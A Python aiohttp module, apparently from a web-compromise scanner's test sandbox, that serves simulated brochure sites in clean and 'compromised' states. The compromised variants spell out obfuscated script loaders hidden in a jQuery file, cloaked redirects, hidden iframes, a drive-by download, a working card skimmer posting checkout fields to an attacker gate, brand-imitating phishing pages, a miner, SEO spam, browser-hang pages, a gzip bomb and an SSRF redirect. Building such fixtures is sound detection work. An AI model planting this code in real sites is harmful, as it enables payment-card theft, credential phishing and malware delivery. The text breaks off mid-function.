"""What each site serves: one page builder ("behaviour") per kind of site.

A behaviour gets an :class:`Env` (the site, its current state, the request,
and the sandbox's origins) and returns a :class:`Reply`, an aiohttp response
for streaming cases, or ``None`` when the path is not its own. State
``clean`` serves the page as it was before the compromise (or a 404 where the
compromise *was* the page: a phishing kit, a payload); ``compromised`` serves
the attack. Everything an attacker host serves is synthetic and inert.
"""

from __future__ import annotations

import asyncio
import base64
import html
import json
import secrets
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

from aiohttp import WSMsgType, web

from tocsin.sandbox import payloads
from tocsin.sandbox.catalogue import METADATA_URL, SiteSpec, attacker, third_party

if TYPE_CHECKING:
    from tocsin.sandbox.web import SiteServer


@dataclass
class Reply:
    body: bytes | str = b""
    status: int = 200
    content_type: str = "text/html; charset=utf-8"
    headers: dict[str, str] = field(default_factory=dict)

    def to_response(self) -> web.Response:
        body = self.body.encode() if isinstance(self.body, str) else self.body
        headers = {"Content-Type": self.content_type, **self.headers}
        return web.Response(body=body, status=self.status, headers=headers)


@dataclass
class Env:
    site: SiteSpec
    state: str
    request: web.Request
    server: SiteServer

    @property
    def path(self) -> str:
        return self.request.path

    @property
    def compromised(self) -> bool:
        return self.state == "compromised"

    @property
    def scheme(self) -> str:
        return "https" if self.request.secure else "http"

    def origin(self, host: str, scheme: str = "http") -> str:
        return self.server.origin(host, scheme)

    def atk(self, key: str) -> str:
        return self.origin(attacker(key))

    def tp(self, key: str) -> str:
        # Real third parties are referenced over https, as real pages do (several of
        # their names are HSTS-preloaded: Chromium upgrades http:// to https:// anyway).
        return self.origin(third_party(key), "https")

    @property
    def own(self) -> str:
        return self.origin(self.site.host, self.scheme)


Result = Reply | web.StreamResponse | None
Behaviour = Callable[[Env], Awaitable[Result]]
BEHAVIOURS: dict[str, Behaviour] = {}


def behaviour(name: str) -> Callable[[Behaviour], Behaviour]:
    def register(fn: Behaviour) -> Behaviour:
        BEHAVIOURS[name] = fn
        return fn

    return register


def not_found() -> Reply:
    return Reply(
        "<!doctype html><html><head><title>404 Not Found</title></head><body>"
        "<h1>Not Found</h1><p>The requested URL was not found on this server.</p>"
        "<hr><address>Apache/2.4.58 (Unix) Server</address></body></html>",
        status=404,
    )


def js(body: str) -> Reply:
    return Reply(body, content_type="application/javascript; charset=utf-8")


def char_codes(text: str) -> str:
    return ",".join(str(ord(c)) for c in text)


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


# --------------------------------------------------------------------------- templates

_STYLE = (
    "body{font-family:Georgia,serif;margin:0;color:#333}header{background:#2f4f4f;"
    "color:#fff;padding:18px 32px}nav a{color:#fff;margin-right:16px}main{padding:24px 32px;"
    "max-width:880px}footer{border-top:1px solid #ddd;padding:12px 32px;color:#777;"
    "font-size:13px}"
)

_TEXT = {
    "en": (
        "Welcome",
        "Family-owned and serving our community since 1998. Visit us or call to book.",
        "Opening hours: Mon-Fri 9:00-18:00, Sat 10:00-14:00.",
        "All rights reserved.",
    ),
    "ja": (
        "ようこそ",
        "創業以来、地域の皆さまに愛されるお店を目指しております。お気軽にお問い合わせください。",
        "営業時間：月〜金 9:00〜18:00、土 10:00〜14:00",
        "無断転載を禁じます。",
    ),
    "de": (
        "Willkommen",
        "Seit 1998 ein Familienbetrieb in Ihrer Nachbarschaft. Besuchen Sie uns!",
        "Öffnungszeiten: Mo-Fr 9:00-18:00, Sa 10:00-14:00.",
        "Alle Rechte vorbehalten.",
    ),
    "nl": (
        "Welkom",
        "Al sinds 1998 een familiebedrijf in de buurt. Kom gerust langs!",
        "Openingstijden: ma-vr 9:00-18:00, za 10:00-14:00.",
        "Alle rechten voorbehouden.",
    ),
    "pt": (
        "Bem-vindo",
        "Empresa familiar atendendo nossa comunidade desde 1998. Venha nos visitar!",
        "Horário: seg-sex 9h-18h, sáb 10h-14h.",
        "Todos os direitos reservados.",
    ),
}


def page(
    env: Env,
    content: str = "",
    *,
    head: str = "",
    scripts: str = "",
    title: str | None = None,
    lang: str | None = None,
) -> Reply:
    """A small-business brochure page, WordPress-flavoured, in the site's language."""
    site = env.site
    lang = lang or site.lang
    welcome, blurb, hours, rights = _TEXT.get(lang, _TEXT["en"])
    name = html.escape(site.title or site.host)
    title = html.escape(title) if title else name
    if not content:
        content = f"<h2>{welcome}</h2><p>{blurb}</p><p>{hours}</p>"
    body = f"""<!DOCTYPE html>
<html lang="{lang}">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<meta name="generator" content="WordPress 6.4.3">
<title>{title}</title>
<link rel="stylesheet" href="/wp-content/themes/twentytwentyone/style.css?ver=1.9">
<style>{_STYLE}</style>
{head}
</head>
<body class="home page-template-default">
<header><h1>{name}</h1><nav><a href="/">Home</a><a href="/about/">About</a>
<a href="/contact/">Contact</a></nav></header>
<main>
{content}
</main>
<footer>&copy; 2024 {name}. {rights}</footer>
{scripts}
</body>
</html>
"""
    return Reply(body)


# The generic infection used when a clean site is switched to "compromised"
# (re-compromise tests): a Balada-style loader inserting a script from the
# injected-script family's attacker host.
def generic_loader(env: Env) -> str:
    url = f"{env.atk('loader')}/js/stat.js?v=7&h={env.site.host}"
    return (
        "<script>(function(){var d=document,s=d.createElement(String.fromCharCode("
        f"115,99,114,105,112,116));s.src=String.fromCharCode({char_codes(url)});"
        "s.async=true;d.getElementsByTagName('head')[0].appendChild(s);})();</script>"
    )


def common_files(env: Env) -> Result:
    """Files every WordPress-ish site has."""
    if env.path.startswith("/wp-content/themes/") and env.path.endswith(".css"):
        return Reply("body{line-height:1.6}\n", content_type="text/css")
    if env.path in ("/about/", "/contact/"):
        return page(env)
    return None


# --------------------------------------------------------------------------- clean


@behaviour("brochure")
async def brochure(env: Env) -> Result:
    site = env.site
    if site.kind == "offline" and env.path == site.entry.split("?")[0]:
        if site.id.endswith("410"):
            return Reply("<h1>410 Gone</h1>", status=410)
        return not_found()
    if env.path == "/":
        return page(env)
    return common_files(env)


@behaviour("clean-analytics")
async def clean_analytics(env: Env) -> Result:
    if env.path != "/":
        return common_files(env)
    gtm = env.tp("gtm")
    head = f"""<!-- Google Tag Manager -->
<script>(function(w,d,s,l,i){{w[l]=w[l]||[];w[l].push({{'gtm.start':
new Date().getTime(),event:'gtm.js'}});var f=d.getElementsByTagName(s)[0],
j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src=
'{gtm}/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);
}})(window,document,'script','dataLayer','GTM-SBX42Q7');</script>
<!-- End Google Tag Manager -->
<link rel="stylesheet" href="{env.tp("fonts")}/css2?family=Lora&display=swap">
<script src="{env.tp("cdnjs")}/ajax/libs/jquery/3.7.1/jquery.min.js"></script>"""
    content = """<!-- Google Tag Manager (noscript) -->
<noscript><iframe src="{gtm}/ns.html?id=GTM-SBX42Q7" height="0" width="0"
style="display:none;visibility:hidden"></iframe></noscript>
<!-- End Google Tag Manager (noscript) -->
<h2>Library hours and events</h2><p>Story time every Saturday at 10:30.</p>
<p>Borrow e-books with your library card.</p>""".replace("{gtm}", gtm)
    scripts = "<script>$(function(){$('main').addClass('ready');});</script>"
    return page(env, content, head=head, scripts=scripts)


@behaviour("clean-https-redirect")
async def clean_https_redirect(env: Env) -> Result:
    if not env.request.secure:
        target = env.origin(env.site.host, "https") + env.request.path_qs
        return Reply("", status=301, headers={"Location": target})
    if env.path == "/":
        return page(env)
    return common_files(env)


@behaviour("clean-youtube-embed")
async def clean_youtube_embed(env: Env) -> Result:
    if env.path != "/":
        return common_files(env)
    yt = env.tp("youtube")
    content = f"""<h2>Our summer trip to the Dolomites</h2>
<iframe width="560" height="315" src="{yt}/embed/sbxVid0421a?rel=0"
title="YouTube video player" frameborder="0" allow="accelerometer; autoplay;
clipboard-write; encrypted-media; gyroscope; picture-in-picture" allowfullscreen></iframe>
<p>Join the next hike: sign-up sheet at the club house.</p>"""
    return page(env, content)


@behaviour("clean-login-form")
async def clean_login_form(env: Env) -> Result:
    if env.path == "/wp-login.php":
        if env.request.method == "POST":
            return Reply("<p>Invalid username or password.</p>", status=200)
        return Reply("", status=302, headers={"Location": "/"})
    if env.path != "/":
        return common_files(env)
    content = """<h2>Members area</h2>
<form id="loginform" name="loginform" action="/wp-login.php" method="post">
<p><label for="user_login">Username or Email Address</label>
<input type="text" name="log" id="user_login" autocomplete="username"></p>
<p><label for="user_pass">Password</label>
<input type="password" name="pwd" id="user_pass" autocomplete="current-password"></p>
<p><input type="submit" name="wp-submit" id="wp-submit" value="Log In"></p>
<input type="hidden" name="redirect_to" value="/members/">
</form><p><a href="/wp-login.php?action=lostpassword">Lost your password?</a></p>"""
    return page(env, content, title="Log In ‹ Riverside Tennis Club")


_BUNDLE_CACHE: dict[str, bytes] = {}


def big_bundle() -> bytes:
    """A deterministic ~1.3 MB minified bundle, webpack-shaped and benign."""
    if "b" not in _BUNDLE_CACHE:
        parts = ['(()=>{"use strict";var e={};']
        for i in range(9000):
            parts.append(
                f'e[{i}]=function(t,n,r){{var o=r({i % 97}),a=o.createElement("div",'
                f'{{className:"c{i:x}",key:"k{i}"}},t.items.map(function(x){{return x.id+{i}}}));'
                f"return n.exports=a,a}};"
            )
        parts.append("var t={};function n(r){var o=t[r];if(o!==void 0)return o.exports;")
        parts.append("var a=t[r]={exports:{}};return e[r](a,a,n),a.exports}")
        parts.append('document.addEventListener("DOMContentLoaded",function(){')
        parts.append('document.getElementById("app").setAttribute("data-ready","1")})})();')
        _BUNDLE_CACHE["b"] = "".join(parts).encode()
    return _BUNDLE_CACHE["b"]


@behaviour("clean-big-bundle")
async def clean_big_bundle(env: Env) -> Result:
    if env.path == "/assets/app.3f9c1a7e.min.js":
        return Reply(big_bundle(), content_type="application/javascript")
    if env.path != "/":
        return common_files(env)
    return Reply(
        "<!doctype html><html lang=en><head><meta charset=utf-8><title>Brightline Tasks"
        '</title></head><body><div id="app">Loading…</div>'
        '<script src="/assets/app.3f9c1a7e.min.js"></script></body></html>'
    )


JSON2_EVAL = """/* json2.js 2015-05-03, public domain (legacy fallback) */
if (typeof JSON !== "object") { JSON = {}; }
(function () {
  var rx_one = /^[\\],:{}\\s]*$/;
  if (typeof JSON.parse !== "function") {
    JSON.parse = function (text) {
      var j;
      if (rx_one.test(text)) {
        j = eval("(" + text + ")");
        return j;
      }
      throw new SyntaxError("JSON.parse");
    };
  }
}());
/* a tiny template compiler, as underscore/lodash do it */
var Tmpl = {compile: function (src) {
  var body = "var p=[];with(o){p.push('" + src.replace(/'/g, "\\\\'")
    .replace(/<%=(.+?)%>/g, "',$1,'") + "');}return p.join('');";
  return new Function("o", body);
}};
document.addEventListener("DOMContentLoaded", function () {
  var t = Tmpl.compile("<li><%= name %> - <%= price %></li>");
  var menu = JSON.parse('[{"name":"Soup of the day","price":"6.50"}]');
  var el = document.getElementById("menu");
  if (el) { el.innerHTML = menu.map(function (m) { return t(m); }).join(""); }
});
"""


@behaviour("clean-eval-library")
async def clean_eval_library(env: Env) -> Result:
    if env.path == "/js/vendor/json2-tmpl.js":
        return js(JSON2_EVAL)
    if env.path != "/":
        return common_files(env)
    scripts = (
        f'<script src="{env.tp("cdnjs")}/ajax/libs/lodash.js/4.17.21/lodash.min.js"></script>'
        '\n<script src="/js/vendor/json2-tmpl.js"></script>'
    )
    return page(env, "<h2>Today's menu</h2><ul id='menu'></ul>", scripts=scripts)


# --------------------------------------------------------------------------- compromised

JQUERY_MIGRATE = (
    "/*! jQuery Migrate v3.4.1 | (c) OpenJS Foundation and other contributors */\n"
    '"undefined"!=typeof jQuery&&(jQuery.migrateVersion="3.4.1",'
    "jQuery.migrateMute=!0,jQuery.migrateWarnings=[]);\n"
)


@behaviour("injected-script")
async def injected_script(env: Env) -> Result:
    if env.path == "/wp-includes/js/jquery/jquery-migrate.min.js":
        body = JQUERY_MIGRATE
        if env.compromised:
            url = f"{env.atk('loader')}/js/stat.js?v=3.1"
            body += (
                ";(function(){var d=document,s=d.createElement(String.fromCharCode("
                "115,99,114,105,112,116));s.src=String.fromCharCode("
                f"{char_codes(url)});s.async=true;var t=d.getElementsByTagName("
                "String.fromCharCode(115,99,114,105,112,116))[0];"
                "t.parentNode.insertBefore(s,t);})();\n"
            )
        return js(body)
    if env.path != "/":
        return common_files(env)
    content = (
        "<h2>季節の和菓子</h2><p>春は桜餅、夏は水ようかん。職人が一つひとつ手作りしています。</p>"
        "<p>営業時間：10:00〜18:00（水曜定休）</p>"
    )
    scripts = (
        '<script src="/wp-includes/js/jquery/jquery.min.js?ver=3.7.1"></script>\n'
        '<script src="/wp-includes/js/jquery/jquery-migrate.min.js?ver=3.4.1"></script>'
    )
    return page(env, content, scripts=scripts)


@behaviour("delayed-injection")
async def delayed_injection(env: Env) -> Result:
    if env.path != "/":
        return common_files(env)
    scripts = ""
    if env.compromised:
        url = f"{env.atk('delayed')}/w/loader.js?sid=hs21"
        scripts = (
            "<script>/* lazy widgets */(function(){setTimeout(function(){"
            "var s=document.createElement('script');"
            f"s.src=atob('{b64(url)}');document.body.appendChild(s);"
            "},300000);})();</script>"
        )
    content = "<h2>自家焙煎コーヒー</h2><p>モーニングセットは11時まで。</p>"
    return page(env, content, scripts=scripts)


@behaviour("known-bad-host")
async def known_bad_host(env: Env) -> Result:
    if env.path != "/":
        return common_files(env)
    scripts = ""
    if env.compromised:
        scripts = (
            '<script type="text/javascript" src="'
            f'{env.atk("knownbad")}/counter.js?id=8812"></script>'
        )
    content = "<h2>Gentle care for the whole family</h2><p>New patients welcome.</p>"
    return page(env, content, scripts=scripts)


@behaviour("hidden-iframe")
async def hidden_iframe(env: Env) -> Result:
    if env.path != "/":
        return common_files(env)
    extra = ""
    if env.compromised:
        extra = (
            f'<iframe src="{env.atk("tds")}/in.cgi?default" width="0" height="0" '
            'frameborder="0"></iframe>'
        )
    content = "<h2>Fresh flowers, delivered daily</h2><p>Weddings, events, sympathy.</p>"
    return page(env, content, scripts=extra)


@behaviour("hidden-iframe-parent")
async def hidden_iframe_parent(env: Env) -> Result:
    if env.path != "/":
        return common_files(env)
    extra = ""
    if env.compromised:
        extra = (
            '<div style="display:none"><iframe src="'
            f'{env.atk("tds")}/in.cgi?2" width="468" height="60" scrolling="no">'
            "</iframe></div>"
        )
    content = "<h2>24/7 emergency plumbing</h2><p>Licensed and insured.</p>"
    return page(env, content + extra)


@behaviour("conditional-redirect")
async def conditional_redirect(env: Env) -> Result:
    if env.path != "/":
        return common_files(env)
    head = ""
    if env.compromised:
        url = f"{env.atk('redirect')}/?sub=estrela&t=1"
        head = (
            "<script>(function(){var ua=navigator.userAgent;"
            "if(/bot|crawl|spider|slurp|headless|lighthouse|pingdom/i.test(ua))return;"
            "if(document.cookie.indexOf('_wp_vst=')!==-1)return;"
            "document.cookie='_wp_vst=1; max-age=86400; path=/';"
            f"var u=atob('{b64(url)}');"
            "setTimeout(function(){window.location.replace(u)},1200);})();</script>"
        )
    content = "<h2>Pão quentinho toda manhã</h2><p>Encomendas pelo telefone.</p>"
    return page(env, content, head=head)


@behaviour("meta-redirect")
async def meta_redirect(env: Env) -> Result:
    if env.path != "/":
        return common_files(env)
    head = ""
    if env.compromised:
        head = f'<meta http-equiv="refresh" content="1;url={env.atk("redirect")}/?sub=lindner&t=2">'
    content = "<h2>Sprechzeiten</h2><p>Termine nach Vereinbarung.</p>"
    return page(env, content, head=head)


@behaviour("drive-by-download")
async def drive_by_download(env: Env) -> Result:
    if env.path != "/":
        return common_files(env)
    scripts = ""
    if env.compromised:
        url = f"{env.atk('dropper')}/dl/Factuur_2024_0381.zip"
        scripts = (
            "<script>window.addEventListener('load',function(){setTimeout(function(){"
            f"var a=document.createElement('a');a.href='{url}';"
            "a.download='Factuur_2024_0381.zip';a.style.display='none';"
            "document.body.appendChild(a);a.click();},800);});</script>"
        )
    content = "<h2>Fietsen huren in de polder</h2><p>Dagtarief vanaf 12 euro.</p>"
    return page(env, content, scripts=scripts)


@behaviour("fake-update")
async def fake_update(env: Env) -> Result:
    if env.path != "/":
        return common_files(env)
    head = ""
    if env.compromised:
        head = (
            ";(function(d,s){var x=d.createElement(s);x.async=1;"
            f"x.src='{env.atk('fakeupdate')}/report?r='+encodeURIComponent(btoa("
            "location.href));d.getElementsByTagName('head')[0].appendChild(x);"
            "})(document,'script');"
        )
        head = f"<script>{head}</script>"
    content = "<h2>Frisch gezapft</h2><p>Biergarten ab 12 Uhr geöffnet.</p>"
    return page(env, content, head=head)


CHECKOUT_JS = """/* checkout validation v2.3 */
(function(){function luhn(n){var s=0,d=!1;for(var i=n.length-1;i>=0;i--){var c=+n[i];
if(d){c*=2;if(c>9)c-=9}s+=c;d=!d}return s%10===0}
window.CheckoutValidate={card:function(v){v=(v||'').replace(/\\D/g,'');
return v.length>12&&luhn(v)}};
})();
"""


def skimmer(env: Env) -> str:
    gate = f"{env.atk('skimmer')}/gate.php"
    return (
        ";(function(){var g=atob('" + b64(gate) + "'),k={};"
        "function c(){var f=document.querySelectorAll('input,select');"
        "for(var i=0;i<f.length;i++){var n=(f[i].name||f[i].id||'').toLowerCase();"
        "if(/cc|card|cvv|cvc|exp|number|billing|name|email|phone/.test(n))k[n]=f[i].value;}}"
        "function x(){c();k.h=location.hostname;"
        "var p=btoa(unescape(encodeURIComponent(JSON.stringify(k))));"
        "if(navigator.sendBeacon){navigator.sendBeacon(g,p)}"
        "else{new Image().src=g+'?d='+encodeURIComponent(p)}}"
        "function init(){var f=document.querySelectorAll("
        '\'input[name*="cc_"],input[autocomplete^="cc-"]\');'
        "for(var i=0;i<f.length;i++){f[i].addEventListener('change',x);"
        "f[i].addEventListener('blur',x);}"
        "var b=document.querySelector('#place-order');if(b)b.addEventListener('click',x);"
        "new Image().src=g.replace('gate.php','ping.gif')+'?h='+location.hostname;}"
        "if(document.readyState==='loading'){document.addEventListener("
        "'DOMContentLoaded',init)}else{init()}})();\n"
    )


@behaviour("card-skimmer")
async def card_skimmer(env: Env) -> Result:
    if env.path == "/static/js/checkout.min.js":
        body = CHECKOUT_JS + (skimmer(env) if env.compromised else "")
        return js(body)
    if env.path == "/":
        return page(env, "<h2>Hand-poured soy candles</h2><p><a href='/checkout/'>Cart</a></p>")
    if env.path == "/checkout/place-order" and env.request.method == "POST":
        return Reply("<p>Thank you for your order.</p>")
    if env.path != "/checkout/":
        return common_files(env)
    content = """<h2>Checkout</h2>
<form id="co-payment-form" action="/checkout/place-order" method="post">
<fieldset><legend>Billing</legend>
<input name="billing[firstname]" placeholder="First name" autocomplete="given-name">
<input name="billing[lastname]" placeholder="Last name" autocomplete="family-name">
<input name="billing[email]" type="email" placeholder="Email" autocomplete="email"></fieldset>
<fieldset><legend>Payment</legend>
<input name="payment[cc_owner]" placeholder="Name on card" autocomplete="cc-name">
<input name="payment[cc_number]" placeholder="Card number" autocomplete="cc-number"
 inputmode="numeric">
<input name="payment[cc_exp]" placeholder="MM/YY" autocomplete="cc-exp">
<input name="payment[cc_cid]" placeholder="CVV" autocomplete="cc-csc"></fieldset>
<p>Order total: $42.00</p>
<button type="submit" id="place-order">Place order</button>
</form>"""
    scripts = '<script src="/static/js/checkout.min.js"></script>'
    return page(env, content, scripts=scripts, title="Checkout - Coastal Candles Co.")


@behaviour("phishing-offsite")
async def phishing_offsite(env: Env) -> Result:
    if env.path != env.site.entry:
        return None
    if not env.compromised:
        return not_found()
    gate = f"{env.atk('phishgate')}/gate/next.php"
    body = f"""<!DOCTYPE html><html><head><meta charset="utf-8">
<title>Webmail :: Welcome to Webmail</title>
<style>body{{background:#f4f4f4;font-family:Arial}}.box{{width:340px;margin:90px auto;
background:#fff;padding:28px;border-radius:6px;box-shadow:0 2px 8px #aaa}}
input{{width:100%;padding:8px;margin:6px 0}}</style></head><body><div class="box">
<h2>Webmail</h2><p>Your mailbox storage is almost full. Sign in to verify your account
and avoid suspension.</p>
<form method="post" action="{gate}">
<input type="email" name="email" placeholder="Email address" required>
<input type="password" name="password" placeholder="Password" required>
<input type="hidden" name="src" value="rcc-uploads">
<input type="submit" value="Login"></form></div></body></html>"""
    return Reply(body)


@behaviour("phishing-brand")
async def phishing_brand(env: Env) -> Result:
    base = env.site.entry.rsplit("/", 1)[0]
    if env.path == f"{base}/next.php":
        if not env.compromised:
            return not_found()
        return Reply("", status=302, headers={"Location": env.site.entry + "?error=1"})
    if env.path == "/":
        return page(env, "<h2>Mecânica geral e elétrica</h2><p>Orçamento sem compromisso.</p>")
    if env.path != env.site.entry:
        return common_files(env)
    if not env.compromised:
        return not_found()
    body = """<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">
<title>Sign in to your Microsoft account</title>
<link rel="icon" href="data:,">
<style>body{font-family:"Segoe UI",Arial;background:#f2f2f2}.c{width:440px;margin:80px auto;
background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
.logo{font-weight:600;color:#737373;font-size:20px}input{width:100%;padding:6px;
border:0;border-bottom:1px solid #666;margin:10px 0}button{background:#0067b8;color:#fff;
border:0;padding:8px 32px;float:right}</style></head><body><div class="c">
<div class="logo"><span style="color:#f25022">&#9632;</span><span style="color:#7fba00">
&#9632;</span><span style="color:#00a4ef">&#9632;</span><span style="color:#ffb900">
&#9632;</span> Microsoft</div>
<h1 style="font-size:24px">Sign in</h1>
<p>to continue to Outlook and Office 365</p>
<form method="post" action="next.php">
<input type="email" name="loginfmt" placeholder="Email, phone, or Skype" required>
<input type="password" name="passwd" placeholder="Password" required>
<p><a href="#">Can't access your account?</a></p>
<button type="submit">Sign in</button></form>
<p style="clear:both;font-size:12px;color:#666">&copy;2024 Microsoft &nbsp; Terms of use
&nbsp; Privacy &amp; cookies</p></div></body></html>"""
    return Reply(body)


@behaviour("cryptominer")
async def cryptominer(env: Env) -> Result:
    if env.path != "/":
        return common_files(env)
    scripts = ""
    if env.compromised:
        scripts = (
            f'<script src="{env.atk("miner")}/lib/miner.min.js"></script>\n'
            "<script>var miner=new CoinHive.Anonymous('SBX4f8aZq1Lr7RcW9yTn2',"
            "{throttle:0.3});miner.start();</script>"
        )
    content = "<h2>Find your balance</h2><p>Morning flow classes daily at 7:00.</p>"
    return page(env, content, scripts=scripts)


SEARCH_BOTS = ("googlebot", "bingbot", "yandexbot", "baiduspider", "slurp")
SEARCH_REFERERS = ("google.", "bing.com", "yahoo.", "yandex.", "baidu.com")


@behaviour("seo-cloaking")
async def seo_cloaking(env: Env) -> Result:
    if env.path != "/":
        return common_files(env)
    ua = env.request.headers.get("User-Agent", "").lower()
    referer = env.request.headers.get("Referer", "").lower()
    searcher = any(b in ua for b in SEARCH_BOTS) or any(r in referer for r in SEARCH_REFERERS)
    if env.compromised and searcher:
        shop = env.atk("spam")
        items = [
            ("格安ブランド時計 激安通販", "watch"),
            ("ルイヴィトン バッグ スーパーコピー 新作", "bag"),
            ("シャネル 財布 激安 正規品 最安値", "wallet"),
            ("ロレックス 偽物 販売 口コミ", "rolex"),
            ("グッチ スニーカー 激安 アウトレット", "shoes"),
        ]
        links = "".join(
            f'<li><a href="{shop}/item/{slug}-{i}.html">{text}</a></li>'
            for i, (text, slug) in enumerate(items * 6)
        )
        content = (
            "<h2>ブランドコピー 激安 通販専門店 2024年新作</h2>"
            f"<p>最高品質のブランドコピー品を激安価格でご提供。送料無料。</p><ul>{links}</ul>"
        )
        return page(env, content, title="格安ブランド時計 激安通販 | スーパーコピー専門店")
    content = "<h2>腰痛・肩こりの治療</h2><p>各種保険取扱い。予約優先制です。</p>"
    return page(env, content)


# --------------------------------------------------------------------------- payloads


@behaviour("payload")
async def payload(env: Env) -> Result:
    if env.path != env.site.entry.split("?")[0]:
        return None
    if not env.compromised:
        return not_found()
    kind, content_type, filename = payloads.PAYLOADS[env.site.id]
    headers = {}
    if filename:
        headers["Content-Disposition"] = f'attachment; filename="{filename}"'
    return Reply(payloads.payload_bytes(kind), content_type=content_type, headers=headers)


# --------------------------------------------------------------------------- hostile

HUGE_SIZE = 1024**3
DRIP_HEAD = b"<!DOCTYPE html><html><head><title>Loading</title></head><body>"


@behaviour("hostile")
async def hostile(env: Env) -> Result:
    path = env.path
    if path == "/":
        return page(env, "<h2>Free games!</h2>")
    if path == "/spin/":
        return Reply("<!doctype html><title>Spin</title><p>Loading<script>for(;;){}</script>")
    if path == "/alerts/":
        return Reply(
            "<!doctype html><title>Alert</title><script>"
            "while(true){alert('Your computer is infected! Call support now.')}</script>"
        )
    if path == "/popups/":
        return Reply(
            "<!doctype html><title>Prize</title><script>var n=0;"
            "for(var i=0;i<50;i++){window.open('/popups/?p='+(n++),'_blank')}"
            "setInterval(function(){window.open('/popups/?p='+(n++),'_blank')},50);"
            "</script><p>You won!</p>"
        )
    if path in ("/loop/a", "/loop/b"):
        other = "/loop/b" if path == "/loop/a" else "/loop/a"
        return Reply("", status=302, headers={"Location": other})
    if path == "/huge/":
        return await _stream_huge(env.request)
    if path == "/bomb/":
        return await _gzip_bomb(env)
    if path == "/drip/":
        return await _drip(env)
    return None


async def _stream_huge(request: web.Request) -> web.StreamResponse:
    response = web.StreamResponse(headers={"Content-Type": "text/html; charset=utf-8"})
    response.content_length = HUGE_SIZE
    await response.prepare(request)
    chunk = b"<p>" + b"A" * (64 * 1024 - 7) + b"</p>\n"
    sent = 0
    try:
        while sent < HUGE_SIZE:
            piece = chunk[: HUGE_SIZE - sent]
            await response.write(piece)
            sent += len(piece)
    except (ConnectionError, RuntimeError):
        return response
    await response.write_eof()
    return response


async def _gzip_bomb(env: Env) -> web.StreamResponse:
    path = await asyncio.get_running_loop().run_in_executor(
        None, payloads.gzip_bomb, env.server.workdir
    )
    data = path.read_bytes()
    return web.Response(
        body=data,
        headers={"Content-Type": "text/html; charset=utf-8", "Content-Encoding": "gzip"},
    )


async def _drip(env: Env) -> web.StreamResponse:
    response = web.StreamResponse(headers={"Content-Type": "text/html; charset=utf-8"})
    await response.prepare(env.request)
    try:
        await response.write(DRIP_HEAD[:1])
        i = 1
        while True:
            await asyncio.sleep(1)
            await response.write(b"." if i >= len(DRIP_HEAD) else DRIP_HEAD[i : i + 1])
            i += 1
    except (ConnectionError, RuntimeError):
        pass
    return response


# --------------------------------------------------------------------------- SSRF


@behaviour("ssrf-redirect")
async def ssrf_redirect(env: Env) -> Result:
    if env.path == env.site.entry:
        return Reply("", status=302, headers={"Location": METADATA_URL})
    if env.path == "/":
        return page(env, "<h2>Short links</h2>")
    return None


@behaviour("ssrf-canary")
async def ssrf_canary(env: Env) -> Result:
    if env.path != "/":
        return None
    canary = f"http://127.0.0.1:{env.server.canary_port}"
    content = (
        "<h2>Pixel tracker demo</h2>"
        f'<img src="{canary}/pixel.gif?from=img" width="1" height="1" alt="">'
    )
    scripts = (
        f"<script>fetch('{canary}/latest/meta-data/?from=fetch',{{mode:'no-cors'}})"
        ".catch(function(){});</script>"
    )
    return page(env, content, scripts=scripts)


@behaviour("none")
async def nothing(env: Env) -> Result:
    return None


# --------------------------------------------------------------------------- attacker hosts


def _log(env: Env, what: str, data: Any = None) -> None:
    env.server.attacker_log.append(
        {"host": env.site.host, "path": env.request.path_qs, "what": what, "data": data}
    )


@behaviour("attacker-loader")
async def attacker_loader(env: Env) -> Result:
    if env.path == "/js/stat.js":
        px = f"{env.atk('loader')}/px.gif"
        return js(
            "(function(){var i=new Image();"
            f"i.src='{px}?u='+encodeURIComponent(location.href)+'&r='+Math.random();}})();"
        )
    if env.path == "/px.gif":
        _log(env, "beacon")
        return Reply(GIF, content_type="image/gif")
    return None


@behaviour("attacker-delayed")
async def attacker_delayed(env: Env) -> Result:
    if env.path == "/w/loader.js":
        _log(env, "delayed-loaded")
        return js("window.__hs_widget=1;document.documentElement.setAttribute('data-w','1');")
    return None


@behaviour("attacker-knownbad")
async def attacker_knownbad(env: Env) -> Result:
    if env.path == "/counter.js":
        return js("(function(){var c=document.createElement('span');c.id='tj-counter';})();")
    return None


@behaviour("attacker-tds")
async def attacker_tds(env: Env) -> Result:
    if env.path == "/in.cgi":
        _log(env, "tds-hit")
        return Reply("<!doctype html><html><body><p>&nbsp;</p></body></html>")
    return None


@behaviour("attacker-redirect")
async def attacker_redirect(env: Env) -> Result:
    if env.path == "/":
        _log(env, "landing")
        return Reply(
            "<!doctype html><html><head><title>Congratulations!</title></head><body>"
            "<h1>Congratulations, you are today's lucky visitor!</h1><p>Answer 3 questions "
            "to claim your prize: a new smartphone. Only 2 prizes left!</p>"
            "<button>Claim now</button></body></html>"
        )
    return None


@behaviour("attacker-dropper")
async def attacker_dropper(env: Env) -> Result:
    if env.path.startswith("/dl/"):
        name = env.path.rsplit("/", 1)[1] or "file.zip"
        _log(env, "download")
        return Reply(
            payloads.zip_with_exe(name.replace(".zip", ".exe")),
            content_type="application/zip",
            headers={"Content-Disposition": f'attachment; filename="{name}"'},
        )
    return None


def fake_update_overlay(env: Env) -> str:
    origin = env.atk("fakeupdate")
    overlay = (
        '<div style="max-width:640px;margin:80px auto;text-align:center">'
        '<div style="font-size:64px;color:#4285f4">&#9673;</div>'
        "<h1>Your browser is out of date</h1><p>An error occurred in displaying this "
        "page. Your version of Chrome has a critical security vulnerability. Update "
        "Chrome to the latest version to view this page.</p>"
        f'<a id="chrome-update-btn" href="{origin}/download/Chrome.Update.zip" '
        'style="display:inline-block;background:#1a73e8;color:#fff;padding:12px 36px;'
        'border-radius:4px;text-decoration:none">Update Chrome</a>'
        '<p style="font-size:12px;color:#777">Recommended: Update now</p></div>'
    )
    return (
        "(function(){if(document.getElementById('chrome-update-ov'))return;"
        "function show(){var o=document.createElement('div');o.id='chrome-update-ov';"
        "o.style.cssText='position:fixed;top:0;left:0;width:100%;height:100%;"
        "z-index:2147483647;background:#fff;font-family:Arial,sans-serif';"
